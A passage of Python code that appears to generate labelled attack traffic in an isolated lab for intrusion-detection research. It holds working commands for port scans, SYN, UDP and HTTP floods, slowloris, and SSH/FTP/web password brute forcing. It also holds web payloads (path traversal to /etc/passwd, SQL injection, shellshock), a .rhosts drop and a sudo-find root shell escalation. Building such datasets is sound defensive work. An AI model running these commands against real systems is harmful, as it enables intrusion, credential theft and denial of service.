                str(self.rng.randrange(1, 4)),
            ],
            timeout=15,
        )
        return None

    def a_smb(self) -> bool | None:
        if not self.lab.services.get("smb"):
            return False
        self.x(
            [
                "smbclient",
                "-N",
                f"//{self.p.h('srv').v4[0]}/public",
                "-c",
                f"ls; get policy-{self.rng.randrange(4)}.docx /dev/null",
            ],
            timeout=30,
        )
        return None


# ------------------------------------------------------------------ attack scenarios
@dataclass
class Scenario:
    name: str
    cls: str
    attacker: Host
    victims: list[str]
    tool: str
    params: str
    run: Callable[[], None]
    est: float
    needs: tuple[str, ...] = ()
    services: tuple[str, ...] = ()
    extra_attackers: list[str] = field(default_factory=list)
    settle: float = 0.0  # seconds the victim may still answer after the tool ends (kept inside the window)


class Attacks:
    def __init__(self, lab: Lab, seed: int):
        self.lab, self.p = lab, lab.p
        self.rng = random.Random(seed * 1009 + 17)
        # flood target ports come from their own stream, so that widening them left every other seeded choice
        # of a seed (addresses, scenarios, their order and parameters) as it was
        self.port_rng = random.Random(seed * 7919 + 3)

    def flood_port(self, usual: int) -> int:
        """A flood's target port: half the time the service it usually hits, else another well-known port
        (listening or not: a closed port answers RST, a filtered one nothing) or an unassigned high port.
        A flood is a flood whatever the port; a model that saw floods only on 80/22/21 ties DoS to those."""
        r = self.port_rng
        if r.random() < 0.5:
            return usual
        if r.random() < 0.5:
            return r.choice([21, 22, 23, 25, 53, 80, 110, 143, 443, 445, 993, 3306, 3389, 5432, 8080, 8443])
        return r.randrange(1025, 65536)

    def atk(self) -> Host:
        return self.rng.choice(self.p.attackers)

    def a4(self, h: Host) -> str:
        return h.v4[0]

    def x(self, ns: str, argv: list[str], timeout: float) -> subprocess.CompletedProcess:
        r = nsx(ns, argv, timeout=timeout, cwd=str(self.lab.w))
        with open(self.lab.logs / "attacks.log", "a") as f:
            f.write(
                f"--- {ns} rc={r.returncode}: {shlex.join(argv)[:400]}\n{(r.stdout or '')[-1500:]}\n"
                f"{(r.stderr or '')[-800:]}\n"
            )
        return r

    def wordlist(self, n: int, success: bool, password: str) -> str:
        words = self.rng.sample(COMMON_PASSWORDS, min(n, len(COMMON_PASSWORDS)))
        if success:
            words.insert(self.rng.randrange(len(words) // 2, len(words) + 1), password)
        f = self.lab.w / f"words-{self.rng.getrandbits(32):08x}.txt"
        f.write_text("\n".join(words) + "\n")
        return str(f)

    def userlist(self, include: str) -> str:
        users = [*self.rng.sample(USERNAMES, self.rng.randrange(2, 5)), include]
        self.rng.shuffle(users)
        f = self.lab.w / f"users-{self.rng.getrandbits(32):08x}.txt"
        f.write_text("\n".join(users) + "\n")
        return str(f)

    # ---------------- catalogue
    def catalogue(self) -> dict[str, list[Scenario]]:
        r, p = self.rng, self.p
        srv, web, vic, mail, dns = (p.h(n) for n in ("srv", "web", "vic", "mail", "dns"))
        cat: dict[str, list[Scenario]] = {"Probe": [], "DoS": [], "R2L": [], "U2R": []}

        def add(s: Scenario) -> None:
            cat[s.cls].append(s)

        # ===== Probe
        portsets = {
            "top100": ["--top-ports", "100"],
            "top1000": ["--top-ports", "1000"],
            "1-1024": ["-p", "1-1024"],
            "services": ["-p", "21-23,25,53,80,110,139,143,443,445,993,995,3306,3389,5432,8080,8443"],
            "random300": ["-p", ",".join(map(str, sorted(r.sample(range(1, 65536), 300))))],
            "1-65535": ["-p-"],
        }
        scan_types = ["-sS", "-sS", "-sT", "-sF", "-sN", "-sX", "-sA", "-sW", "-sM"]
        for _ in range(6):
            st = r.choice(scan_types)
            ps = r.choice(list(portsets) if st in ("-sS", "-sT") else ["top100", "1-1024", "services", "random300"])
            if ps == "1-65535" and st != "-sS":
                ps = "top1000"
            T = r.choice(["-T3", "-T4", "-T4", "-T5"]) if ps != "1-65535" else "-T5"
            victim = r.choice([srv, web, vic, mail, dns])
            atk = self.atk()
            extra = r.choice(
                [
                    [],
                    [],
                    ["-f"],
                    ["--data-length", str(r.randrange(10, 60))],
                    ["--source-port", "53"],
                    ["--max-rate", str(r.choice([200, 500, 1000]))],
                ]
            )
            if st == "-sT" and extra == ["-f"]:
                # nmap refuses to fragment a connect scan (the kernel makes its handshake: "Fragscan only works
                # with ... scan types" and quits), so that draw scanned nothing; dropped after the draw so every
                # other seeded choice stays as it was
                extra = []
            decoys: list[str] = []
            if r.random() < 0.2:
                decoys = [str(p.spoof4[r.randrange(1, 62)]) for _ in range(2)]
                extra = ["-D", ",".join([*decoys, "ME"])]
            tg = [tgt(victim.v4[0])] if r.random() < 0.8 else [tgt(a) for a in victim.v4[:3]]
            argv = [
                "nmap",
                "-n",
                "-Pn",
                st,
                T,
                *portsets[ps],
                "--max-retries",
                "1",
                "--host-timeout",
                "70s",
                *extra,
                *tg,
            ]
            add(
                Scenario(
                    f"nmap{st}{T}-{ps}",
                    "Probe",
                    atk,
                    tg,
                    "nmap",
                    shlex.join(argv[1 : -len(tg)]),
                    self.mk(atk, argv, 90),
                    35,
                    ("nmap",),
                    extra_attackers=decoys,
                )
            )
        # UDP, protocol, version, OS, IPv6 scans
        victim = r.choice([srv, dns, vic])
        atk = self.atk()
        argv = [
            "nmap",
            "-n",
            "-Pn",
            "-sU",
            "-T4",
            "--top-ports",
            str(r.choice([20, 30, 50])),
            "--max-retries",
            "1",
            "--host-timeout",
            "45s",
            tgt(victim.v4[0]),
        ]
        add(
            Scenario(
                "nmap-sU",
                "Probe",
                atk,
                [victim.v4[0]],
                "nmap",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 60),
                45,
                ("nmap",),
            )
        )
        victim, atk = r.choice([srv, vic, web]), self.atk()
        argv = ["nmap", "-n", "-Pn", "-sO", "-T4", "--max-retries", "1", "--host-timeout", "40s", tgt(victim.v4[0])]
        add(
            Scenario(
                "nmap-sO",
                "Probe",
                atk,
                [victim.v4[0]],
                "nmap",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 50),
                30,
                ("nmap",),
            )
        )
        victim, atk = r.choice([srv, web, mail]), self.atk()
        argv = [
            "nmap",
            "-n",
            "-Pn",
            "-sV",
            "--version-intensity",
            str(r.choice([2, 5, 7])),
            "-T4",
            "-p",
            "21,22,23,25,53,80,110,143,443,445",
            "--host-timeout",
            "60s",
            tgt(victim.v4[0]),
        ]
        add(
            Scenario(
                "nmap-sV",
                "Probe",
                atk,
                [victim.v4[0]],
                "nmap",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 75),
                40,
                ("nmap",),
            )
        )
        victim, atk = r.choice([srv, web, vic]), self.atk()
        argv = [
            "nmap",
            "-n",
            "-Pn",
            "-O",
            r.choice(["-T3", "-T4"]),
            "-p",
            "21,22,23,80,443,1,113,8888",
            "--max-os-tries",
            "1",
            "--host-timeout",
            "60s",
            tgt(victim.v4[0]),
        ]
        add(
            Scenario(
                "nmap-O",
                "Probe",
                atk,
                [victim.v4[0]],
                "nmap",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 75),
                25,
                ("nmap",),
            )
        )
        victim, atk = r.choice([srv, web]), self.atk()
        argv = [
            "nmap",
            "-6",
            "-n",
            "-Pn",
            r.choice(["-sS", "-sT"]),
            "-T4",
            "--top-ports",
            "200",
            "--max-retries",
            "1",
            tgt(victim.v6[0]),
        ]
        add(
            Scenario(
                "nmap6-scan",
                "Probe",
                atk,
                [victim.v6[0]],
                "nmap",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 60),
                15,
                ("nmap",),
            )
        )
        victim, atk = r.choice([srv, web, dns]), self.atk()
        argv = [
            "nmap",
            "-n",
            "-sV",
            "-T4",
            "-p",
            "21,22,25,80,110,143,443",
            "--script",
            r.choice(["banner", "http-title,http-headers", "ftp-anon,ftp-syst", "ssh2-enum-algos"]),
            "--host-timeout",
            "60s",
            tgt(victim.v4[0]),
        ]
        add(
            Scenario(
                "nmap-scripts",
                "Probe",
                atk,
                [victim.v4[0]],
                "nmap",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 75),
                30,
                ("nmap",),
            )
        )
        # sweeps
        # a sweep of the local /24 shows only the live hosts' packets (the rest stays ARP); one of the remote
        # segment, from the main-segment attacker, crosses the tap for every address
        sweep_local = str(list(p.main4.subnets(new_prefix=24))[r.randrange(4)])
        for flag in r.sample([["-PE"], ["-PS22,80,443"], ["-PU53,161"], ["-PA80"], ["-PP"], ["-PE", "-PS443"]], 3):
            remote = r.random() < 0.5
            sweep_net = str(p.rem4) if remote else sweep_local
            atk = p.h("atk1") if remote else self.atk()
            argv = [
                "nmap",
                "-n",
                "-sn",
                "--disable-arp-ping",
                *flag,
                r.choice(["-T4", "-T3", "-T5"]),
                "--max-retries",
                "1",
                tgt(sweep_net),
            ]
            add(
                Scenario(
                    f"sweep{''.join(flag)}",
                    "Probe",
                    atk,
                    [sweep_net],
                    "nmap",
                    shlex.join(argv[1:-1]),
                    self.mk(atk, argv, 90),
                    25,
                    ("nmap",),
                    # a remote sweep's absent hosts: the router gives up on their ARP after ~3 s and then answers
                    # the attacker with host unreachable, up to ~3 s after nmap has ended (seed 900's label check:
                    # 0.6 s past the window's 2 s; seed 12's failure was also one router ICMP to the attacker)
                    settle=4.0 if remote else 0.0,
                )
            )
        remote = r.random() < 0.5
        sweep_net = str(p.rem4) if remote else sweep_local
        atk = p.h("atk1") if remote else self.atk()
        host_pat = sweep_net.rsplit(".", 1)[0] + ".x"
        n = r.randrange(150, 500)
        argv = [
            "hping3",
            "-I",
            "eth0",
            r.choice(["-1", "-S -p 80", "-2 -p 161"]),
            "--rand-dest",
            host_pat,
            "-c",
            str(n),
            "-i",
            f"u{r.choice([5000, 10000, 20000])}",
        ]
        argv = argv[:3] + argv[3].split() + argv[4:]
        add(
            Scenario(
                "hping3-randdest-sweep",
                "Probe",
                atk,
                [sweep_net],
                "hping3",
                shlex.join(argv[1:]),
                self.mk(atk, argv, 60),
                10,
                ("hping3",),
                settle=4.0 if remote else 0.0,  # the router's late host unreachables, as for the nmap sweeps
            )
        )
        victim, atk = r.choice([srv, vic, web]), self.atk()
        argv = ["hping3", "--scan", r.choice(["1-1024", "known", "20-500,1000-1100"]), "-S", tgt(victim.v4[0])]
        add(
            Scenario(
                "hping3-scan",
                "Probe",
                atk,
                [victim.v4[0]],
                "hping3",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 40),
                15,
                ("hping3",),
            )
        )
        # slow scans
        victim, atk = r.choice([srv, vic, web, mail]), self.atk()
        ports = ",".join(map(str, r.sample([21, 22, 23, 25, 80, 110, 143, 443, 445, 3306, 8080], 3)))
        argv = ["nmap", "-n", "-Pn", "-sS", "-T1", "-p", ports, "--max-retries", "0", tgt(victim.v4[0])]
        add(
            Scenario(
                "nmap-slow-T1",
                "Probe",
                atk,
                [victim.v4[0]],
                "nmap",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 100),
                65,
                ("nmap",),
            )
        )
        victim, atk = r.choice([srv, vic]), self.atk()
        argv = [
            "nmap",
            "-n",
            "-Pn",
            r.choice(["-sS", "-sT"]),
            "-T2",
            "--top-ports",
            str(r.choice([20, 40])),
            "--max-retries",
            "0",
            tgt(victim.v4[0]),
        ]
        add(
            Scenario(
                "nmap-slow-T2",
                "Probe",
                atk,
                [victim.v4[0]],
                "nmap",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 60),
                25,
                ("nmap",),
            )
        )
        victim, atk = web, self.atk()
        tg = [tgt(a) for a in r.sample(web.v4, min(len(web.v4), r.randrange(8, 20)))]
        argv = ["nmap", "-n", "-Pn", "-sS", "-T4", "-p", "80,443,8080,8443", "--max-retries", "1", *tg]
        add(
            Scenario(
                "nmap-cdn-range",
                "Probe",
                atk,
                tg,
                "nmap",
                "-sS -T4 -p 80,443,8080,8443 (many addresses)",
                self.mk(atk, argv, 60),
                10,
                ("nmap",),
            )
        )

        # ===== DoS
        def victim_sysctl(ns: str, cookies: int, backlog: int) -> Callable[[], None]:
            def f() -> None:
                nsx(ns, ["sysctl", "-qw", f"net.ipv4.tcp_syncookies={cookies}"])
                nsx(ns, ["sysctl", "-qw", f"net.ipv4.tcp_max_syn_backlog={backlog}"])

            return f

        for _ in range(2):
            victim, atk = r.choice([web, srv]), self.atk()
            port = self.flood_port(80 if victim is web else r.choice([22, 21]))
            cnt, iv = r.randrange(5000, 30000), r.choice([100, 200, 300, 500])
            cookies, backlog = r.choice([0, 1, p.syncookies]), r.choice([p.syn_backlog, 64, 128])
            argv = ["hping3", "-S", "-p", str(port), "-c", str(cnt), "-i", f"u{iv}", "-q", tgt(victim.v4[0])]
            spoof = r.random() < 0.3
            extra = []
            if spoof:
                sp = str(p.spoof4[r.randrange(1, 62)])
                argv[1:1] = ["-a", tgt(sp)]
                extra = [sp]
            add(
                Scenario(
                    f"synflood-hping3{'-spoof1' if spoof else ''}",
                    "DoS",
                    atk,
                    [victim.v4[0]],
                    "hping3",
                    shlex.join(argv[1:-1]) + f" syncookies={cookies} syn_backlog={backlog}",
                    self.mk(
                        atk,
                        argv,
                        60,
                        pre=victim_sysctl(victim.ns, cookies, backlog),
                        post=victim_sysctl(victim.ns, p.syncookies, p.syn_backlog),
                    ),
                    cnt * iv / 1e6 + 4,
                    ("hping3",),
                    extra_attackers=extra,
                )
            )
        victim, atk = r.choice([web, srv]), self.atk()
        cnt = r.randrange(5000, 25000)
        port = self.flood_port(80 if victim is web else 22)
        cookies = r.choice([0, 1])
        argv = [
            PY,
            AGENTS,
            "craft",
            "synflood",
            "--dst",
            tgt(victim.v4[0]),
            "--spoof",
            tgt(str(p.spoof4)),
            "--dport",
            str(port),
            "--count",
            str(cnt),
            "--interval",
            str(r.choice([0.0002, 0.0005, 0.001])),
            "--seed",
            str(r.randrange(1 << 30)),
        ]
        add(
            Scenario(
                "synflood-spoofed",
                "DoS",
                atk,
                [victim.v4[0]],
                "python-raw",
                shlex.join(argv[3:]) + f" syncookies={cookies}",
                self.mk(
                    atk,
                    argv,
                    60,
                    pre=victim_sysctl(victim.ns, cookies, 128),
                    post=victim_sysctl(victim.ns, p.syncookies, p.syn_backlog),
                ),
                cnt * 0.0005 + 4,
                (),
                extra_attackers=[str(p.spoof4)],
            )
        )
        for kind, flags in r.sample(
            [
                ("ackflood", ["-A", "-p", "80"]),
                ("udpflood", ["-2", "-p", "53", "-d", "120"]),
                ("icmpflood", ["-1", "-d", str(r.choice([56, 512, 1400]))]),
                ("finflood", ["-F", "-p", "443"]),
                ("xmasflood", ["-F", "-P", "-U", "-p", "80"]),
                ("udpflood-ports", ["-2", "-p", "++1000", "-d", "32"]),
            ],
            4,
        ):
            victim, atk = r.choice([web, srv, dns, vic]), self.atk()
            cnt, iv = r.randrange(4000, 20000), r.choice([100, 200, 500])
            if "-p" in flags and flags[flags.index("-p") + 1].isdigit():
                i = flags.index("-p") + 1
                flags = [*flags[:i], str(self.flood_port(int(flags[i]))), *flags[i + 1 :]]
            argv = ["hping3", *flags, "-c", str(cnt), "-i", f"u{iv}", "-q", tgt(victim.v4[0])]
            add(
                Scenario(
                    f"{kind}-hping3",
                    "DoS",
                    atk,
                    [victim.v4[0]],
                    "hping3",
                    shlex.join(argv[1:-1]),
                    self.mk(atk, argv, 60),
                    cnt * iv / 1e6 + 3,
                    ("hping3",),
                )
            )
        atk = self.atk()
        cnt = r.randrange(1000, 5000)
        argv = ["ping", "-f", "-c", str(cnt), "-s", str(r.choice([56, 1000, 1472])), tgt(vic.v4[0])]
        add(
            Scenario(
                "pingflood",
                "DoS",
                atk,
                [vic.v4[0]],
                "ping",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 40),
                10,
                ("ping",),
            )
        )
        # smurf (IPv4 directed broadcast, reflectors answer the spoofed victim) and an IPv6 variant
        atk = p.h("atk1")
        bcast = str(p.main4.broadcast_address)
        cnt = r.randrange(200, 1200)
        argv = [
            PY,
            AGENTS,
            "craft",
            "smurf",
            "--dst",
            tgt(bcast),
            "--src",
            tgt(vic.v4[0]),
            "--count",
            str(cnt),
            "--interval",
            str(r.choice([0.002, 0.005, 0.01])),
            "--size",
            str(r.choice([56, 512, 1000])),
        ]
        add(
            Scenario(
                "smurf",
                "DoS",
                atk,
                [bcast, str(p.main4)],
                "python-raw",
                shlex.join(argv[3:]),
                self.mk(atk, argv, 40),
                cnt * 0.006 + 3,
                (),
                extra_attackers=[vic.v4[0]],
            )
        )
        cnt = r.randrange(200, 1000)
        argv = [
            PY,
            AGENTS,
            "craft",
            "smurf6",
            "--dst",
            "ff02::1",
            "--src",
            tgt(vic.v6[0]),
            "--count",
            str(cnt),
            "--interval",
            str(r.choice([0.002, 0.005, 0.01])),
            "--size",
            str(r.choice([56, 512])),
        ]
        add(
            Scenario(
                "smurf6",
                "DoS",
                atk,
                ["ff02::1", str(p.main6)],
                "python-raw",
                shlex.join(argv[3:]),
                self.mk(atk, argv, 40),
                cnt * 0.006 + 3,
                (),
                extra_attackers=[vic.v6[0]],
            )
        )
        victim, atk = r.choice([vic, srv]), self.atk()
        port = r.choice([139, 445, 80, 22])
        cnt = r.randrange(50, 600)
        argv = [
            "hping3",
            "-S",
            "-a",
            tgt(victim.v4[0]),
            "-s",
            str(port),
            "-p",
            str(port),
            "-k",
            "-c",
            str(cnt),
            "-i",
            f"u{r.choice([1000, 5000, 10000])}",
            "-q",
            tgt(victim.v4[0]),
        ]
        add(
            Scenario(
                "land",
                "DoS",
                atk,
                [victim.v4[0]],
                "hping3",
                shlex.join(argv[1:-1]),
                self.mk(atk, argv, 40),
                10,
                ("hping3",),
                extra_attackers=[victim.v4[0]],
            )
        )
        victim, atk = r.choice([vic, srv]), self.atk()
        cnt = r.randrange(50, 400)
        argv = [
            PY,
            AGENTS,
            "craft",
            "teardrop",
            "--dst",
            tgt(victim.v4[0]),
            "--src",
            tgt(atk.v4[0]),
            "--dport",
            str(r.choice([53, 137, 7, 161])),
            "--count",
            str(cnt),
            "--interval",
            "0.01",
            "--seed",
            str(r.randrange(1 << 30)),
        ]
        add(
            Scenario(
                "teardrop",
                "DoS",
                atk,
                [victim.v4[0]],
                "python-raw",
                shlex.join(argv[3:]),
                self.mk(atk, argv, 30),
                cnt * 0.01 + 35,
                # the victim sends "fragment reassembly time exceeded" when its 30 s reassembly timer expires
                settle=33.0,
            )
        )
        victim, atk = r.choice([vic, srv, web]), self.atk()
        cnt = r.randrange(5, 40)
        argv = [
            PY,
            AGENTS,
            "craft",
            "pod",
            "--dst",
            tgt(victim.v4[0]),
            "--src",
            tgt(atk.v4[0]),
            "--count",
            str(cnt),
            "--interval",
            "0.2",
            "--seed",
            str(r.randrange(1 << 30)),
        ]
        add(
            Scenario(
                "pod",
                "DoS",
                atk,
                [victim.v4[0]],
                "python-raw",
                shlex.join(argv[3:]),
                self.mk(atk, argv, 30),
                cnt * 0.2 + 3,
            )
        )
        # slow HTTP
        for mode in r.sample(["-H", "-B", "-X", "-H", "-R"], 3):
            atk = self.atk()
            c, dur = r.randrange(100, 450), r.randrange(20, 40)
            scheme = r.choice(["http", "https"]) if mode != "-R" else "http"
            url = {"-H": "/", "-B": "/api/upload", "-X": "/downloads/pkg0.bin", "-R": "/index.html"}[mode]
            argv = [
                "slowhttptest",
                mode,
                "-c",
                str(c),
                "-r",
                str(r.choice([30, 50, 100])),
                "-l",
                str(dur),
                "-p",
                "3",
                "-u",
                f"{scheme}://{tgt(web.v4[0])}{url}",
            ]
            if mode == "-H":
                argv += ["-i", str(r.choice([5, 10, 15])), "-x", "24"]
            elif mode == "-B":
                argv += ["-i", str(r.choice([5, 10])), "-s", "8192", "-t", "POST", "-x", "10"]
            elif mode == "-X":
                argv += ["-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"]
            else:
                argv += ["-a", "10", "-b", "3000"]
            name = {"-H": "slowloris", "-B": "slowpost", "-X": "slowread", "-R": "rangeattack"}[mode]
            add(
                Scenario(
                    f"{name}-slowhttptest",
                    "DoS",
                    atk,
                    [web.v4[0]],
                    "slowhttptest",
                    shlex.join(argv[1:]),
                    self.mk(atk, argv, dur + 25),
                    dur + 5,
                    ("slowhttptest",),
                )
            )
        for _ in range(2):
            atk = self.atk()
            n, c = r.randrange(2000, 10000), r.choice([10, 20, 50, 100])
            scheme = r.choice(["http", "https", "http"])
            argv = [
                "ab",
                "-n",
                str(n),
                "-c",
                str(c),
                "-s",
                "10",
                *(["-k"] if r.random() < 0.5 else []),
                f"{scheme}://{tgt(r.choice(web.v4[:4]))}/{r.choice(['', 'index.html', 'robots.txt', 'api/status'])}",
            ]
            add(
                Scenario(
                    "httpflood-ab",
                    "DoS",
                    atk,
                    web.v4[:4],
                    "ab",
                    shlex.join(argv[1:]),
                    self.mk(atk, argv, 60),
                    n / 800 + 3,
                    ("ab",),
                )
            )

        # ===== R2L
        sizes = {
            "ssh": (6, 16),
            "ftp": (10, 30),
            "telnet": (3, 7),
            "http": (15, 60),
            "pop3": (4, 9),
            "imap": (4, 9),
            "smtp": (8, 20),
        }

        def brute(
            name: str,
            tool: str,
            victim: Host,
            svc: str,
            user: str,
            pw: str,
            mk_argv: Callable[[str, str], list[str]],
            est: float,
            service: str,
        ) -> None:
            atk = self.atk()
            success = r.random() < 0.5
            n = r.randrange(*sizes[service])
            if "userlist" in name:
                n = r.randrange(3, 6)
            state: dict = {}

            def go() -> None:
                words = self.wordlist(n, success, pw)
                argv = mk_argv(words, user)
                state["argv"] = argv
                self.x(atk.ns, argv, timeout=est * 2 + 20)

            add(
                Scenario(
                    name,
                    "R2L",
                    atk,
                    [victim.v4[0]],
                    tool,
                    f"{svc} user={user} words={n} {'success' if success else 'fail'}",
                    go,
                    est,
                    (tool,),
                    (service,),
                )
            )

        S, M, W = srv.v4[0], mail.v4[0], web.v4[0]
        pw, tasks = p.password, str(r.choice([2, 4]))
        choices = [
            (
                "hydra-ssh",
                "hydra",
                srv,
                "ssh",
                USER,
                pw,
                lambda w, u: ["hydra", "-I", "-f", "-t", tasks, "-l", u, "-P", w, f"ssh://{tgt(S)}"],
                30,
                "ssh",
            ),
            (
                "hydra-ftp",
                "hydra",
                srv,
                "ftp",
                USER,
                pw,
                lambda w, u: ["hydra", "-I", "-f", "-t", tasks, "-l", u, "-P", w, f"ftp://{tgt(S)}"],
                25,
                "ftp",
            ),
            (
                "hydra-telnet",
                "hydra",
                srv,
                "telnet",
                USER,
                pw,
                lambda w, u: ["hydra", "-I", "-f", "-t", "4", "-l", u, "-P", w, f"telnet://{tgt(S)}"],
                45,
                "telnet",
            ),
            (
                "hydra-http-basic",
                "hydra",
                web,
                "http-get /private/",
                p.web_user,
                p.web_pw,
                lambda w, u: ["hydra", "-I", "-f", "-t", tasks, "-l", u, "-P", w, tgt(W), "http-get", "/private/"],
                15,
                "http",
            ),
            (
                "hydra-http-form",
                "hydra",
                web,
                "http-post-form /app/login",
                p.form_user,
                p.form_pw,
                lambda w, u: [
                    "hydra",
                    "-I",
                    "-f",
                    "-t",
                    tasks,
                    "-l",
                    u,
                    "-P",
                    w,
                    tgt(W),
                    "http-post-form",
                    "/app/login:username=^USER^&password=^PASS^:F=Invalid",
                ],
                15,
                "http",
            ),
            (
                "hydra-pop3",
                "hydra",
                mail,
                "pop3",
                USER,
                p.mail_pw,
                lambda w, u: ["hydra", "-I", "-f", "-t", tasks, "-l", u, "-P", w, f"pop3://{tgt(M)}"],
                25,
                "pop3",
            ),
            (
                "hydra-imap",
                "hydra",
                mail,
                "imap",
                USER,
                p.mail_pw,
                lambda w, u: ["hydra", "-I", "-f", "-t", tasks, "-l", u, "-P", w, f"imap://{tgt(M)}"],
                25,
                "imap",
            ),
            (
                "hydra-smtp",
                "hydra",
                mail,
                "smtp",
                USER,
                p.mail_pw,
                lambda w, u: ["hydra", "-I", "-f", "-t", tasks, "-l", u, "-P", w, f"smtp://{tgt(M)}"],
                20,
                "smtp",
            ),
            (
                "hydra-ssh-userlist",
                "hydra",
                srv,
                "ssh userlist",
                USER,
                pw,
                lambda w, u: ["hydra", "-I", "-f", "-t", "4", "-L", self.userlist(u), "-P", w, f"ssh://{tgt(S)}"],
                45,
                "ssh",
            ),
            (
                "medusa-ssh",
                "medusa",
                srv,
                "ssh",
                USER,
                pw,
                lambda w, u: ["medusa", "-h", tgt(S), "-u", u, "-P", w, "-M", "ssh", "-t", tasks, "-f"],
                30,
                "ssh",
            ),
            (
                "medusa-ftp",
                "medusa",
                srv,
                "ftp",
                USER,
                pw,
                lambda w, u: ["medusa", "-h", tgt(S), "-u", u, "-P", w, "-M", "ftp", "-t", tasks, "-f"],
                30,
                "ftp",
            ),
            (
                "medusa-http",
                "medusa",
                web,
                "http basic",
                p.web_user,
                p.web_pw,
                lambda w, u: [
                    "medusa",
                    "-h",
                    tgt(W),
                    "-u",
                    u,
                    "-P",
                    w,
                    "-M",
                    "http",
                    "-m",
                    "DIR:/private/",
                    "-t",
                    tasks,
                    "-f",
                ],
                15,
                "http",
            ),
            (
                "medusa-pop3",
                "medusa",
                mail,
                "pop3",
                USER,
                p.mail_pw,
                lambda w, u: ["medusa", "-h", tgt(M), "-u", u, "-P", w, "-M", "pop3", "-t", tasks, "-f"],
                25,
                "pop3",
            ),
            (
                "ncrack-ssh",
                "ncrack",
                srv,
                "ssh",
                USER,
                pw,
                lambda w, u: ["ncrack", "-f", "--user", u, "-P", w, f"ssh://{tgt(S)}:22,CL={tasks}"],
                35,
                "ssh",
            ),
            (
                "ncrack-ftp",
                "ncrack",
                srv,
                "ftp",
                USER,
                pw,
                lambda w, u: ["ncrack", "-f", "--user", u, "-P", w, f"ftp://{tgt(S)}:21"],
                30,
                "ftp",
            ),
            (
                "ncrack-telnet",
                "ncrack",
                srv,
                "telnet",
                USER,
                pw,
                lambda w, u: ["ncrack", "-f", "--user", u, "-P", w, f"telnet://{tgt(S)}:23"],
                45,
                "telnet",
            ),
        ]
        for args in r.sample(choices, len(choices)):
            brute(*args)
        # web exploitation attempts (phf, traversal, injection, shellshock): R2L
        atk = self.atk()
        payloads = [
            "/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd",
            "/../../../../etc/passwd",
            "/index.php?page=../../../../etc/shadow",
            "/api/items?page=1%20OR%201=1--",
            "/app/login?user=admin'--",
            "/cgi-bin/test.cgi",
            "/.git/config",
            "/.env",
            "/wp-login.php",
            "/phpmyadmin/index.php",
            "/api/items?page=;cat%20/etc/passwd",
            "/docs/..%2f..%2f..%2fetc%2fpasswd",
            "/server-status",
            "/admin/config.php",
            "/shell.php?cmd=id",
        ]
        sel = r.sample(payloads, r.randrange(6, len(payloads)))
        argv = [
            "curl",
            "-sk",
            "--max-time",
            "5",
            "-A",
            "() { :; }; /bin/bash -c 'id'",
            *[f"{r.choice(['http', 'https'])}://{tgt(W)}{u}" for u in sel],
        ]
        add(
            Scenario(
                "web-exploit-curl",
                "R2L",
                atk,
                [W],
                "curl",
                f"{len(sel)} exploit URIs + shellshock UA",
                self.mk(atk, argv, 40),
                5,
                ("curl",),
                ("http",),
            )
        )
        # ftp_write: log in with the (stolen) password and drop a .rhosts and a tool
        atk = self.atk()
        script = (
            "set ftp:passive-mode on; cd upload; put /etc/hostname -o .rhosts; mkdir tools; "
            "put /etc/hostname -o tools/x.sh; ls -la; bye"
        )
        argv = ["lftp", "-u", f"{USER},{pw}", "-e", script, tgt(S)]
        add(
            Scenario(
                "ftp-write",
                "R2L",
                atk,
                [S],
                "lftp",
                "login with stolen password, put .rhosts + tool",
                self.mk(atk, argv, 40),
                8,
                ("lftp",),
                ("ftp",),
            )
        )

        # ===== U2R
        priv_cmds = [
            "id",
            "uname -a",
            "sudo -l",
            "cat /etc/shadow",
            "ls -la /root",
            "find /usr/bin /usr/sbin /bin -perm -4000 -type f 2>/dev/null | head -20",
            "su -",
            "wrongpass1",
            "su root",
            "toor",
            "sudo find /tmp -maxdepth 0 -exec /bin/sh \\;",
            "id",
            "whoami",
            "hostname",
            "exit",
            "exit",
            "exit",
        ]
        for hn in r.sample(["srv", "vic"], 2):
            victim, atk = p.h(hn), self.atk()
            lines = list(priv_cmds)
            if r.random() < 0.5:
                lines.insert(2, "cat /etc/passwd | head -5")

            def ssh_go(atk: Host = atk, victim: Host = victim, lines: list[str] = lines) -> None:
                interactive(
                    atk.ns,
                    [
                        "sshpass",
                        "-p",
                        p.password,
                        "ssh",
                        "-tt",
                        "-o",
                        "StrictHostKeyChecking=no",
                        "-o",
                        "UserKnownHostsFile=/dev/null",
                        "-o",
                        "LogLevel=ERROR",
                        f"{USER}@{tgt(victim.v4[0])}",
                    ],
                    lines,
                    self.rng,
                    timeout=70,
                    delay=(0.6, 2.2),
                )

            add(
                Scenario(
                    f"ssh-privesc-{hn}",
                    "U2R",
                    atk,
                    [victim.v4[0]],
                    "ssh",
                    "sshpass login, sudo -l, su attempts, /etc/shadow, SUID search, sudo find -> root shell",
                    ssh_go,
                    35,
                    ("sshpass",),
                    ("ssh" if hn == "srv" else "ssh_vic",),
                )
            )
        atk = self.atk()
        cmds = ";;".join(
            [
                "id",
                "uname -a",
                "sudo -l",
                "cat /etc/shadow",
                "find /usr/bin /bin -perm -4000 -type f 2>/dev/null",
                "su -",
                "#sleep 0.5",
                "letmein",
                "#sleep 3",
                "sudo find /tmp -maxdepth 0 -exec /bin/sh \\; -quit",
                "#sleep 1",
                "id",
                "whoami",
                f"echo owned > {self.lab.w}/.x",
                "exit",
            ]
        )
        argv = [
            PY,
            AGENTS,
            "telnet",
            "--host",
            tgt(S),
            "--user",
            USER,
            "--password",
            pw,
            "--commands",
            cmds,
            "--typing",
        ]
        add(
            Scenario(
                "telnet-rootshell",
                "U2R",
                atk,
                [S],
                "telnet",
                "login, su attempt, sudo find -> # prompt",
                self.mk(atk, argv, 90),
                40,
                ("telnetd",),
                ("telnet",),
            )
        )
        # bind shell on the victim (planted as the lab user), attacker connects
        for i in range(2):
